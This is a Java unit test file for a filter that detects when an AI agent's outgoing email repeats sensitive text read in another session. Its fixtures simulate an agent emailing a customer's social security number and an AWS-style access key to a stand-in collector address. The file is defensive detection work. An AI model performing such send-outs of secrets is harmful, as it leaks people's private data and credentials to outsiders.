package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.state.MemoryStateTable;
import io.weir.schemas.event.ResponseObserved;
import io.weir.schemas.event.Taint;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TaintFilterTest {

    private static final String CUSTOMER = "Ana Duarte moves from Lisbon to Porto on the third of May; her social"
            + " security number is 536-22-8726 and she asks that nobody but the manager hears of it.";
    private static final String FOOTER = " This message is confidential and meant for the person it is addressed to; if"
            + " you are not that person, tell the sender, delete it, and do not copy or pass on any part of it.";

    private final TaintFilter filter = new TaintFilter();

    private static ResponseObserved read(String session, String text) {
        return Desk.at(new MemoryStateTable(), "acme", session).reads("read_file", Map.of("content", text));
    }

    private static Taint taint(ResponseObserved read) {
        return Taints.of(read, 0, 0).orElseThrow();
    }

    private static Write write(String session, String text) {
        return Write.of(Desk.at(new MemoryStateTable(), "acme", session)
                .calls("send_email", Map.of("to", "drop@collector.example", "body", text), null)
                .event());
    }

    @Test
    void suspectsTheReadOfAnotherSession() {
        ResponseObserved read = read("reader", CUSTOMER);
        filter.add(taint(read));

        assertThat(filter.suspects(write("sender", "fyi: " + CUSTOMER)).reads())
                .extracting(TaintMark::eventId)
                .containsExactly(read.eventId());
    }

    @Test
    void suspectsByAPieceOfTheText() {
        filter.add(taint(read("reader", CUSTOMER)));

        assertThat(filter.suspects(write("sender", "she moves from Lisbon to Porto on the third of May"))
                        .reads())
                .hasSize(1);
    }

    @Test
    void suspectsNeitherTheOwnSessionNorTheInnocent() {
        filter.add(taint(read("reader", CUSTOMER)));

        assertThat(filter.suspects(write("reader", CUSTOMER)).reads()).isEmpty();
        assertThat(filter.suspects(write("sender", "Shall we meet at the harbor at noon and walk from there?"))
                        .reads())
                .isEmpty();
    }

    @Test
    void takesForBoilerplateWhatStandsInManySessionsAndSoDoesTheJudgement() {
        // Given
        for (int i = 0; i <= BucketIndex.COMMON_SESSIONS; i++) {
            filter.add(taint(read("reader-" + i, "The number of person " + i + " is 536-22-872" + i + "." + FOOTER)));
        }
        Write write = write("sender", "See you on Friday." + FOOTER);

        // When
        Suspects suspects = filter.suspects(write);

        // Then
        Elsewhere elsewhere = new Elsewhere(
                List.of(new PlacedRead(read("reader-1", "The number of person 1 is 536-22-8721." + FOOTER), null)),
                suspects.common(),
                List.of(),
                false,
                List.of());
        assertThat(suspects.common()).hasSizeGreaterThan(10);
        assertThat(FleetLinks.shared(write, elsewhere))
                .allSatisfy(shared ->
                        assertThat(Overlap.of(shared.hits()).textLength()).isLessThan(40));
    }

    @Test
    void neverTakesASecretForBoilerplate() {
        for (int i = 0; i < 3 * BucketIndex.COMMON_SESSIONS; i++) {
            filter.add(taint(read("reader-" + i, CUSTOMER)));
        }

        assertThat(filter.suspects(write("sender", "as you asked: 536-22-8726")).reads())
                .hasSize(TaintFilter.SUSPECTS_MAX);
    }

    @Test
    void forgetsTheHarmlessFirst() {
        // Given
        ResponseObserved grave = read("reader", "aws_access_key_id = AKIA2OGYBAH6QKHRXWFQ and nothing else");
        filter.add(taint(grave));
        for (int i = 0; i < 15; i++) {
            filter.add(taint(read("reader-" + i, CUSTOMER + " Case " + i)));
        }

        // When
        TaintFilter lighter = filter;
        while (lighter.size() >= 8) {
            lighter = lighter.lightened(0);
        }

        // Then
        assertThat(lighter.size()).isEqualTo(7);
        assertThat(lighter.suspects(write("sender", "AKIA2OGYBAH6QKHRXWFQ")).reads())
                .extracting(TaintMark::eventId)
                .containsExactly(grave.eventId());
        assertThat(filter.size()).isEqualTo(16);
    }

    @Test
    void forgetsWhatIsOlderThanTheWindow() {
        ResponseObserved read = read("reader", CUSTOMER);
        filter.add(taint(read));

        assertThat(filter.lightened(read.timeMillis() + 1).size()).isZero();
        assertThat(filter.lightened(read.timeMillis()).size()).isEqualTo(1);
    }
}
